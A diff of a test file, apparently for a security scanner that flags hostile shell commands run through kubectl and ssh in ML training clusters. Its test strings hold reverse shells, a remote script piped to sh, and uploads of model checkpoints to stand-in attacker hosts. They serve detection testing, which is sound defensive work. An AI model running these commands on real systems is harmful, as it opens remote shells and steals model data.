@@ -111,8 +111,10 @@ describe('commands run elsewhere are read: a Ray job entrypoint, kubectl exec / 
     expect(execRuleIds(sh("kubectl -n ml-train exec -it trainer-0 -c pytorch -- bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"))).toContain('MLS-RAY-015');
     expect(execRuleIds(sh("kubectl exec -n ml-train trainer-0 -- sh -c 'curl -T /mnt/ckpt/model.pt https://evil.example/up'"))).toContain('MLS-EXFIL-014');
     expect(execRuleIds(sh('kubectl debug node/gpu-node-1 -it --image=busybox -- chroot /host sh'))).toContain('MLS-RAY-021');
+    expect(execRuleIds(sh("kubectl create cronjob upd --image=alpine --schedule='*/5 * * * *' -- sh -c 'curl -s http://203.0.113.5/x.sh | sh'"))).toContain('MLS-RAY-012');
+    expect(execRuleIds(sh("kubectl -n ml-train create job x --image=alpine -- sh -c 'tar cf - /mnt/ckpt | nc 203.0.113.5 4444'"))).toContain('MLS-EXFIL-014');
     expect(execRuleIds(sh("ssh -i /tmp/k u@10.0.0.5 'curl -s http://203.0.113.5/x.sh | sh'"))).toContain('MLS-RAY-012');
-    for (const line of ['kubectl exec trainer-0 -- nvidia-smi', 'ssh u@10.0.0.5 uptime']) {
+    for (const line of ['kubectl exec trainer-0 -- nvidia-smi', 'ssh u@10.0.0.5 uptime', "kubectl create job smoke --image=python:3.11 -- python -c 'print(1)'"]) {
       expect(execRuleIds(sh(line)).filter((id) => id.startsWith('MLS-')), line).toEqual([]);
     }
   });
